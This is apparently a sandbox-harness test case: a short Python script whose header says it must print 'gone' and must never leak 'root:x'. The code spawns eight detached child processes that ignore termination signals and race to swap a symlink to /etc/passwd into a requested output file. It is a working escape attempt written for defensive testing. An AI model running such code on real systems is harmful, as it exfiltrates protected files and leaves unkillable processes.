# SPDX-License-Identifier: Apache-2.0
# attack: lives on in children that change, map and swap a file while it is taken
# layer: init
# verdict: accepted
# prints: gone
# request: {"output_files": ["swapped", "mapped"]}
# never: root:x
import mmap
import os
import signal
open("mapped", "wb").write(b"a" * 65536)
open("mine", "w").write("mine")
os.symlink("/etc/passwd", "theirs")
for n in range(8):
    if os.fork():
        continue
    os.setsid()
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    os.close(1)
    os.close(2)
    with open("mapped", "r+b") as f:
        shared = mmap.mmap(f.fileno(), 65536)
    while True:
        try:
            os.rename("theirs", "swapped")
            os.rename("swapped", "theirs")
            os.rename("mine", "swapped")
            os.rename("swapped", "mine")
        except OSError:
            pass
        shared[n * 8192] = (shared[n * 8192] + 1) & 127
print("gone")
